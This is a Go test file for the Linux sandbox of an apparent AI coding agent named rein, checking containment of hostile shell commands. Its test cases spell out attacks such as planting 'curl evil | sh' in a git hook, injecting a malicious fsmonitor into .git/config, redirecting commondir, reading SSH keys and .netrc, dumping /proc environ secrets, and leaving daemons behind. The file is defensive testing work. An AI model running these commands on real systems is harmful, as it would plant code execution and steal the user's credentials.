//go:build linux

package sandbox_test

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/rein-agent/rein/internal/sandbox/sandboxtest"

	"github.com/rein-agent/rein/internal/sandbox"
)

// needSandbox skips t where this machine cannot sandbox, saying why.
func needSandbox(t testing.TB) {
	t.Helper()
	sandboxtest.Need(t)
}

// world is a workspace with a repository, a directory outside the
// writable roots, and the policy of a session working there.
type world struct {
	ws, outside, tmp string
	policy           *sandbox.Policy
}

// newWorld makes a world under t's temporary directory (resolved, so that
// paths compare as the sandbox writes them).
func newWorld(t *testing.T) *world {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{ws: base + "/ws", outside: base + "/outside", tmp: base + "/tmp"}
	for _, d := range []string{w.ws + "/.git/hooks", w.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, w.ws+"/.git/config", "[core]\n\tbare = false\n")
	writeFile(t, w.ws+"/.git/HEAD", "ref: refs/heads/main\n")
	w.policy = &sandbox.Policy{
		Writable: append([]string{w.ws}, sandbox.DefaultWritable()...),
		ReadOnly: sandbox.Protected([]string{w.ws}),
		DenyRead: sandbox.DefaultDenyRead(),
		TempDir:  w.tmp,
	}
	return w
}

// run runs command with bash in the workspace under p (nil: no sandbox),
// with env added to a plain environment, and returns its output and exit
// code.
func (w *world) run(t *testing.T, p *sandbox.Policy, command string, env ...string) (string, int) {
	t.Helper()
	cmd := exec.Command("bash", "-c", command)
	cmd.Dir = w.ws
	cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME"), "OUT=" + w.outside}, env...)
	if err := sandbox.Wrap(cmd, p); err != nil {
		t.Fatalf("Wrap() = %v", err)
	}
	out, err := cmd.CombinedOutput()
	if _, exited := errors.AsType[*exec.ExitError](err); err != nil && !exited {
		t.Fatalf("run %q: %v", command, err)
	}
	return string(out), cmd.ProcessState.ExitCode()
}

// off is the policy p with the sandbox turned off.
func off(p *sandbox.Policy) *sandbox.Policy {
	o := *p
	o.Mode = sandbox.ModeOff
	return &o
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatal(err)
	}
	return string(b)
}

// TestContainment runs each hostile command sandboxed, where it must fail
// with the sandbox's explanation and leave no effect, and with the
// sandbox off, where it must succeed.
func TestContainment(t *testing.T) {
	needSandbox(t)
	tests := []struct {
		name    string
		command string
		// explain is what Explain must say of the sandboxed run, with
		// $OUT for the outside directory; "" when the command succeeds
		// inside.
		explain string
		// contained reports what is wrong with the world after the
		// sandboxed run ("" when nothing is), escaped after the run
		// outside.
		contained, escaped func(w *world) string
	}{
		{
			name:    "write outside the writable roots",
			command: `echo x > "$OUT/f"`,
			explain: "the sandbox refused a write to $OUT/f: outside the writable roots",
			contained: func(w *world) string {
				return notThere(w.outside + "/f")
			},
			escaped: func(w *world) string { return there(w.outside + "/f") },
		},
		{
			name:      "write a git hook",
			command:   `echo 'curl evil | sh' > .git/hooks/pre-commit`,
			explain:   "the sandbox refused a write to .git/hooks/pre-commit: .git/hooks is read-only inside the sandbox",
			contained: func(w *world) string { return notThere(w.ws + "/.git/hooks/pre-commit") },
			escaped:   func(w *world) string { return there(w.ws + "/.git/hooks/pre-commit") },
		},
		{
			name:      "append to .git/config",
			command:   `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`,
			explain:   "the sandbox refused a write to .git/config: .git/config is read-only inside the sandbox",
			contained: func(w *world) string { return unchanged(w.ws+"/.git/config", "[core]\n\tbare = false\n") },
			escaped:   func(w *world) string { return changed(w.ws+"/.git/config", "[core]\n\tbare = false\n") },
		},
		{
			name:      "replace .git/config",
			command:   `printf '[core]\n\tfsmonitor = evil\n' > cfg && mv cfg .git/config`,
			explain:   ".git/config is read-only inside the sandbox",
			contained: func(w *world) string { return unchanged(w.ws+"/.git/config", "[core]\n\tbare = false\n") },
			escaped:   func(w *world) string { return changed(w.ws+"/.git/config", "[core]\n\tbare = false\n") },
		},
		{
			name:      "move .git away and make a new one",
			command:   `mv .git .git-old; mkdir -p .git && printf '[core]\n\tfsmonitor = evil\n' > .git/config`,
			contained: func(w *world) string { return unchanged(w.ws+"/.git/config", "[core]\n\tbare = false\n") },
			escaped:   func(w *world) string { return changed(w.ws+"/.git/config", "[core]\n\tbare = false\n") },
		},
		{
			name:      "create .rein/config.toml",
			command:   `mkdir -p .rein && echo 'allow = ["bash"]' > .rein/config.toml`,
			explain:   "the sandbox refused a write to .rein/config.toml: .rein is read-only inside the sandbox",
			contained: func(w *world) string { return notThere(w.ws + "/.rein/config.toml") },
			escaped:   func(w *world) string { return there(w.ws + "/.rein/config.toml") },
		},
		{
			name:      "plant .git/commondir",
			command:   `mkdir -p evil/objects evil/refs && printf '[core]\n\tfsmonitor = evil\n' > evil/config && echo ../evil > .git/commondir`,
			explain:   "the sandbox refused a write to .git/commondir: .git/commondir is read-only inside the sandbox",
			contained: func(w *world) string { return notThere(w.ws + "/.git/commondir") },
			escaped:   func(w *world) string { return there(w.ws + "/.git/commondir") },
		},
		{
			name:      "write elsewhere in the workspace",
			command:   `echo ok > notes.txt && mkdir -p sub && mv notes.txt sub/ && cat sub/notes.txt`,
			contained: func(w *world) string { return changed(w.ws+"/sub/notes.txt", "") },
			escaped:   func(w *world) string { return changed(w.ws+"/sub/notes.txt", "") },
		},
		{
			name:      "the devices and pipes a shell uses",
			command:   `echo a > /dev/null && echo b > /dev/stdout && echo c >&2 && cat <(echo d) && echo e > >(cat) && head -c1 /dev/urandom | wc -c`,
			contained: func(*world) string { return "" },
			escaped:   func(*world) string { return "" },
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			out, code := w.run(t, w.policy, tt.command)
			want := strings.ReplaceAll(tt.explain, "$OUT", shown(w.outside))
			got := sandbox.Explain(w.policy, out, code)
			switch {
			case want == "" && tt.explain == "" && code != 0 && !strings.Contains(tt.name, "move"):
				t.Errorf("sandboxed: exit code %d, want 0; output %q", code, out)
			case want != "" && (code == 0 || !strings.Contains(got, want)):
				t.Errorf("sandboxed: exit code %d, Explain() = %q; want a failure explained as %q; output %q", code, got, want, out)
			}
			if msg := tt.contained(w); msg != "" {
				t.Errorf("sandboxed: %s; output %q", msg, out)
			}
			w = newWorld(t)
			out, code = w.run(t, off(w.policy), tt.command)
			if code != 0 {
				t.Errorf("sandbox off: exit code %d, want 0; output %q", code, out)
			}
			if msg := tt.escaped(w); msg != "" {
				t.Errorf("sandbox off: %s; output %q", msg, out)
			}
		})
	}
}

// shown writes path as Explain does, with ~ for the home directory.
func shown(path string) string {
	if home := os.Getenv("HOME"); home != "" && strings.HasPrefix(path, home+"/") {
		return "~" + strings.TrimPrefix(path, home)
	}
	return path
}

func there(path string) string {
	if _, err := os.Lstat(path); err != nil {
		return path + " is not there"
	}
	return ""
}

func notThere(path string) string {
	if _, err := os.Lstat(path); err == nil {
		return path + " is there"
	}
	return ""
}

func unchanged(path, text string) string {
	if b, _ := os.ReadFile(path); string(b) != text {
		return fmt.Sprintf("%s holds %q, want %q", path, b, text)
	}
	return ""
}

func changed(path, text string) string {
	if b, err := os.ReadFile(path); err != nil || string(b) == text {
		return fmt.Sprintf("%s holds %q (%v), want it changed", path, b, err)
	}
	return ""
}

// TestPlantedFileIsRemoved checks that a protected file the command
// creates, which the sandbox could not mount read-only (a submodule's
// missing gitfile), is gone when it ends, and that the output says so.
func TestPlantedFileIsRemoved(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	writeFile(t, w.ws+"/.gitmodules", "[submodule \"lib\"]\n\tpath = sub\n")
	w.policy.ReadOnly = sandbox.Protected([]string{w.ws})
	out, code := w.run(t, w.policy, `mkdir -p sub && echo gitdir: ../evil > sub/.git && echo planted`)
	if code != 0 || !strings.Contains(out, "planted") {
		t.Fatalf("exit code %d, output %q", code, out)
	}
	if msg := notThere(w.ws + "/sub/.git"); msg != "" {
		t.Error(msg)
	}
	if want := "rein: the sandbox removed " + w.ws + "/sub/.git, which the command created"; !strings.Contains(out, want) {
		t.Errorf("output = %q, want it to say %q", out, want)
	}
}

// TestMissingProtectedFilesHeldWhileTheCommandRuns checks that a missing
// commondir or config.worktree is there, harmless and read-only, while
// the command runs (so that git outside cannot find a planted one then),
// that git works with it, and that it is gone afterwards; and that one
// another sandbox left behind is taken for a placeholder too.
func TestMissingProtectedFilesHeldWhileTheCommandRuns(t *testing.T) {
	needSandbox(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git here")
	}
	for _, left := range []bool{false, true} {
		t.Run(fmt.Sprintf("left behind %v", left), func(t *testing.T) {
			w := newWorld(t)
			git := exec.Command("git", "init", "-q", w.ws)
			if out, err := git.CombinedOutput(); err != nil {
				t.Fatalf("git init: %v\n%s", err, out)
			}
			if left {
				writeFile(t, w.ws+"/.git/commondir", ".\n")
			}
			out, code := w.run(t, w.policy, `cat .git/commondir && wc -c < .git/config.worktree && `+
				`{ echo ../evil > .git/commondir || echo refused; } && git status --short && echo ok`)
			if code != 0 || !strings.HasPrefix(out, ".\n0\n") || !strings.HasSuffix(out, "refused\nok\n") {
				t.Fatalf("exit code %d, output %q", code, out)
			}
			for _, f := range []string{"/.git/commondir", "/.git/config.worktree"} {
				if msg := notThere(w.ws + f); msg != "" {
					t.Error(msg)
				}
			}
		})
	}
}

// TestSubmoduleRepositoryHeld checks that a submodule's repository under
// .git/modules cannot be pointed elsewhere: its commondir and
// config.worktree, missing, are held read-only while the command runs,
// and gone afterwards.
func TestSubmoduleRepositoryHeld(t *testing.T) {
	needSandbox(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git here")
	}
	w := newWorld(t)
	if out, err := exec.Command("git", "init", "-q", w.ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	writeFile(t, w.ws+"/.git/modules/sub/config", "[core]\n")
	p := *w.policy
	p.ReadOnly = sandbox.Protected([]string{w.ws})
	out, code := w.run(t, &p, `{ echo ../../../evil > .git/modules/sub/commondir || echo refused; } && `+
		`{ echo '[core]' >> .git/modules/sub/config.worktree || echo refused; } && echo ok`)
	if code != 0 || !strings.HasSuffix(out, "ok\n") || strings.Count(out, "refused\n") != 2 {
		t.Fatalf("exit code %d, output %q: both writes should be refused", code, out)
	}
	for _, f := range []string{"/.git/modules/sub/commondir", "/.git/modules/sub/config.worktree"} {
		if msg := notThere(w.ws + f); msg != "" {
			t.Error(msg)
		}
	}
}

// TestLoopbackIsTheSandboxs checks that with the network off a server on
// the host's loopback is out of reach (it sees no connection), while a
// server started inside is reachable from inside; and that with the
// sandbox off the host's server is reached.
func TestLoopbackIsTheSandboxs(t *testing.T) {
	needSandbox(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	port := l.Addr().(*net.TCPAddr).Port
	w := newWorld(t)
	out, code := w.run(t, w.policy, fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port))
	if code == 0 || strings.Contains(out, "connected") {
		t.Errorf("sandboxed: exit code %d, output %q; want the connection refused", code, out)
	}
	if got, want := sandbox.Explain(w.policy, out, code), "the network is off"; !strings.Contains(got, want) {
		t.Errorf("Explain() = %q, want it to say %q", got, want)
	}
	if n := accepted(t, l); n != 0 {
		t.Errorf("the listener outside saw %d connections from the sandbox, want none", n)
	}

	// A server inside the sandbox is reachable from inside.
	if python, err := exec.LookPath("python3"); err == nil {
		out, code = w.run(t, w.policy, python+` -c '
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
c = socket.create_connection(s.getsockname()); print("inside ok")'`)
		if code != 0 || !strings.Contains(out, "inside ok") {
			t.Errorf("a server inside the sandbox: exit code %d, output %q", code, out)
		}
	}

	out, code = w.run(t, off(w.policy), fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port))
	if code != 0 || !strings.Contains(out, "connected") {
		t.Errorf("sandbox off: exit code %d, output %q", code, out)
	}
	if n := accepted(t, l); n != 1 {
		t.Errorf("sandbox off: the listener saw %d connections, want 1", n)
	}
}

// accepted returns how many connections wait on l, accepting and closing
// them; a connection the client finished is queued by the kernel before
// the client's connect returned, so none is missed.
func accepted(t *testing.T, l net.Listener) int {
	t.Helper()
	n := 0
	for {
		// Not a timing assertion: a connection made already is queued.
		if err := l.(*net.TCPListener).SetDeadline(time.Now().Add(50 * time.Millisecond)); err != nil {
			t.Fatal(err)
		}
		c, err := l.Accept()
		if err != nil {
			return n
		}
		c.Close()
		n++
	}
}

// TestCredentialsHidden checks that a private key in the home directory
// cannot be read, and can with the sandbox off.
func TestCredentialsHidden(t *testing.T) {
	needSandbox(t)
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	writeFile(t, home+"/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
	writeFile(t, home+"/.netrc", "machine example.com password hunter2\n")
	w := newWorld(t)
	for _, path := range []string{"~/.ssh/id_ed25519", "~/.netrc"} {
		out, code := w.run(t, w.policy, "cat "+path)
		if code == 0 || strings.Contains(out, "fake") || strings.Contains(out, "hunter2") {
			t.Errorf("cat %s: exit code %d, output %q; want it refused", path, code, out)
		}
		if got, want := sandbox.Explain(w.policy, out, code), "the sandbox refused a read of "+path+": credential stores"; !strings.Contains(got, want) {
			t.Errorf("cat %s: Explain() = %q, want it to say %q", path, got, want)
		}
		out, code = w.run(t, off(w.policy), "cat "+path)
		if code != 0 {
			t.Errorf("sandbox off: cat %s: exit code %d, output %q", path, code, out)
		}
	}
	out, code := w.run(t, w.policy, "ls -a ~/.ssh")
	if code == 0 || strings.Contains(out, "id_ed25519") {
		t.Errorf("ls ~/.ssh: exit code %d, output %q; want it refused", code, out)
	}
}

// TestReinEnvironmentUnreachable checks that no process the command can
// see holds rein's environment (cat /proc/$PPID/environ).
func TestReinEnvironmentUnreachable(t *testing.T) {
	needSandbox(t)
	t.Setenv("REIN_TEST_SECRET", "s3cr3t-value-in-reins-environment")
	w := newWorld(t)
	out, _ := w.run(t, w.policy, `cat /proc/$PPID/environ; cat /proc/[0-9]*/environ; ps -e -o pid=,comm= | wc -l`)
	if strings.Contains(out, "s3cr3t-value") {
		t.Errorf("output = %q, want no trace of rein's environment", out)
	}
}

// TestNothingOutlivesTheCommand checks that what a command leaves behind
// (background jobs, double forks, setsid and nohup daemons) is dead when
// the call returns, and that with the sandbox off a setsid daemon lives
// on.
func TestNothingOutlivesTheCommand(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	tag := strconv.Itoa(os.Getpid())
	daemons := []string{"1001." + tag, "1002." + tag, "1003." + tag, "1004." + tag}
	command := fmt.Sprintf(`sleep %s & (sleep %s &) & setsid sleep %s & nohup sleep %s >/dev/null 2>&1 & sleep 0.2; echo started`,
		daemons[0], daemons[1], daemons[2], daemons[3])
	out, code := w.run(t, w.policy, command)
	if code != 0 || !strings.Contains(out, "started") {
		t.Fatalf("exit code %d, output %q", code, out)
	}
	for _, d := range daemons {
		if pids := sleeping(t, d); len(pids) > 0 {
			t.Errorf("sleep %s still runs as %v after the sandboxed call returned", d, pids)
			kill(pids)
		}
	}

	escapee := "1005." + tag
	out, code = w.run(t, off(w.policy), fmt.Sprintf(`setsid sleep %s >/dev/null 2>&1 & sleep 0.2; echo started`, escapee))
	pids := sleeping(t, escapee)
	defer kill(pids)
	if code != 0 || len(pids) != 1 {
		t.Errorf("sandbox off: exit code %d, output %q, sleep %s runs as %v; want it to live on", code, out, escapee, pids)
	}
}

// sleeping returns the pids of the live processes whose command line is
// `sleep arg`.
func sleeping(t *testing.T, arg string) []int {
	t.Helper()
	want := []byte("sleep\x00" + arg + "\x00")
	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	var pids []int
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil || !bytes.HasSuffix(b, want) {
			continue
		}
		stat, err := os.ReadFile(filepath.Join(filepath.Dir(f), "stat"))
		if err != nil || bytes.Contains(stat, []byte(") Z")) {
			continue // gone, or a zombie waiting for its reaper
		}
		if pid, err := strconv.Atoi(filepath.Base(filepath.Dir(f))); err == nil {
			pids = append(pids, pid)
		}
	}
	return pids
}

func kill(pids []int) {
	for _, pid := range pids {
		// It may have ended meanwhile.
		_ = syscall.Kill(pid, syscall.SIGKILL)
	}
}

// TestIdentityAndTemp checks that the command runs as the user, that
// what it writes belongs to the user, and that TMPDIR (and GOTMPDIR,
// when set) is the private temporary directory, writable; in read-only
// mode too, where the workspace is not.
func TestIdentityAndTemp(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	ro := *w.policy
	ro.Mode = sandbox.ModeReadOnly
	for _, p := range []*sandbox.Policy{w.policy, &ro} {
		t.Run(string(p.Mode), func(t *testing.T) {
			out, code := w.run(t, p, `id -u; id -g; echo "$TMPDIR"; echo "$GOTMPDIR"; echo x > "$TMPDIR/f" && echo written`, "GOTMPDIR=/elsewhere", "TMPDIR=/elsewhere")
			want := fmt.Sprintf("%d\n%d\n%s\n%s\nwritten\n", os.Getuid(), os.Getgid(), w.tmp, w.tmp)
			if code != 0 || out != want {
				t.Errorf("exit code %d, output %q; want 0, %q", code, out, want)
			}
			var st syscall.Stat_t
			if err := syscall.Stat(w.tmp+"/f", &st); err != nil || int(st.Uid) != os.Getuid() || int(st.Gid) != os.Getgid() {
				t.Errorf("the file written: %+v, %v; want it owned by %d:%d", st, err, os.Getuid(), os.Getgid())
			}
		})
	}
	out, code := w.run(t, &ro, `echo x > notes.txt`)
	if code == 0 || !strings.Contains(sandbox.Explain(&ro, out, code), "the sandbox is read-only") {
		t.Errorf("read-only: exit code %d, output %q, Explain() = %q", code, out, sandbox.Explain(&ro, out, code))
	}
}

// TestShmIsPrivate checks that /dev/shm is writable and the command's
// own.
func TestShmIsPrivate(t *testing.T) {
	needSandbox(t)
	if _, err := os.Stat("/dev/shm"); err != nil {
		t.Skip("no /dev/shm here")
	}
	w := newWorld(t)
	name := "/dev/shm/rein-sandbox-test-" + strconv.Itoa(os.Getpid())
	out, code := w.run(t, w.policy, "echo x > "+name+" && cat "+name)
	if code != 0 || out != "x\n" {
		t.Errorf("exit code %d, output %q", code, out)
	}
	if msg := notThere(name); msg != "" {
		t.Error(msg + ": the command's /dev/shm is the host's")
		os.Remove(name)
	}
}

// TestGoTestInside checks that a Go module's tests run inside the
// sandbox with the default writable caches and the network off: the
// demo relies on it.
func TestGoTestInside(t *testing.T) {
	needSandbox(t)
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go on PATH")
	}
	w := newWorld(t)
	writeFile(t, w.ws+"/go.mod", "module example.com/stats\n\ngo 1.22\n")
	writeFile(t, w.ws+"/stats.go", "package stats\n\nfunc Mean(xs []float64) float64 {\n\ts := 0.0\n\tfor _, x := range xs {\n\t\ts += x\n\t}\n\treturn s / float64(len(xs))\n}\n")
	writeFile(t, w.ws+"/stats_test.go", "package stats\n\nimport \"testing\"\n\nfunc TestMean(t *testing.T) {\n\tif got := Mean([]float64{2, 4, 6}); got != 4 {\n\t\tt.Fatalf(\"Mean = %v\", got)\n\t}\n}\n")
	cmd := exec.Command(goBin, "test", "-count=1", "./...")
	cmd.Dir = w.ws
	cmd.Env = append(os.Environ(), "GOFLAGS=", "GOTOOLCHAIN=local")
	if err := sandbox.Wrap(cmd, w.policy); err != nil {
		t.Fatal(err)
	}
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "ok") {
		t.Errorf("go test inside the sandbox: %v\n%s\nExplain: %s", err, out, sandbox.Explain(w.policy, string(out), cmd.ProcessState.ExitCode()))
	}
}

// TestWrapLeavesAlone checks the commands Wrap does not touch, and those
// it refuses.
func TestWrapLeavesAlone(t *testing.T) {
	for _, p := range []*sandbox.Policy{nil, {Mode: sandbox.ModeOff, TempDir: t.TempDir()}} {
		cmd := exec.Command("true")
		cmd.Env = []string{}
		path, args := cmd.Path, cmd.Args
		if err := sandbox.Wrap(cmd, p); err != nil || cmd.Path != path || len(cmd.Args) != len(args) || cmd.SysProcAttr != nil {
			t.Errorf("Wrap(%+v) = %v, changed the command to %q %q", p, err, cmd.Path, cmd.Args)
		}
	}
	needSandbox(t)
	cmd := exec.Command("true")
	if err := sandbox.Wrap(cmd, &sandbox.Policy{TempDir: t.TempDir()}); err == nil {
		t.Error("Wrap() of a command without an environment of its own: nil error")
	}
	cmd = exec.Command("true")
	cmd.Env = []string{}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := sandbox.Wrap(cmd, &sandbox.Policy{TempDir: t.TempDir()}); err != nil || !cmd.SysProcAttr.Setsid {
		t.Errorf("Wrap() = %v, SysProcAttr %+v; want Setsid kept", err, cmd.SysProcAttr)
	}
}

// TestWritableInsideHidden checks that a writable root and the temporary
// directory inside a hidden directory stay reachable and writable, while
// the rest of the hidden directory stays hidden.
func TestWritableInsideHidden(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	state := filepath.Dir(w.ws) + "/state"
	writeFile(t, state+"/sessions/ses_1/events.jsonl", "secret log\n")
	if err := os.MkdirAll(state+"/sessions/ses_2/tmp", 0o755); err != nil {
		t.Fatal(err)
	}
	p := *w.policy
	p.DenyRead = []string{state}
	p.TempDir = state + "/sessions/ses_2/tmp"
	p.Writable = append(p.Writable, state+"/cache")
	out, code := w.run(t, &p, `echo a > "$TMPDIR/a" && echo b > `+state+`/cache/b && cat "$TMPDIR/a" `+state+`/cache/b; cat `+state+`/sessions/ses_1/events.jsonl; ls `+state)
	if !strings.HasPrefix(out, "a\nb\n") || strings.Contains(out, "secret log") || !strings.Contains(out, "cannot open directory") || code == 0 {
		t.Errorf("exit code %d, output %q; want the writable paths written and the rest hidden", code, out)
	}
	if got := readFile(t, state+"/cache/b"); got != "b\n" {
		t.Errorf("the writable root inside the hidden directory holds %q outside, want \"b\\n\"", got)
	}
}

// TestProtectedLinkIsRestored checks a protected path that is a symbolic
// link: its target is read-only, and a link the command replaces is put
// back when it ends.
func TestProtectedLinkIsRestored(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	if err := os.RemoveAll(w.ws + "/.git/hooks"); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(w.ws+"/tracked-hooks", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../tracked-hooks", w.ws+"/.git/hooks"); err != nil {
		t.Fatal(err)
	}
	out, _ := w.run(t, w.policy, `echo evil > tracked-hooks/pre-commit; rm .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit && echo replaced`)
	if !strings.Contains(out, "replaced") {
		t.Fatalf("output %q: the command could not replace the link, so the test shows nothing", out)
	}
	if link, err := os.Readlink(w.ws + "/.git/hooks"); err != nil || link != "../tracked-hooks" {
		t.Errorf(".git/hooks is %q (%v) after the command, want the link back; output %q", link, err, out)
	}
	if msg := notThere(w.ws + "/tracked-hooks/pre-commit"); msg != "" {
		t.Errorf("%s: the link's target was writable; output %q", msg, out)
	}
	if want := "rein: the sandbox restored " + w.ws + "/.git/hooks"; !strings.Contains(out, want) {
		t.Errorf("output %q, want it to say %q", out, want)
	}
}
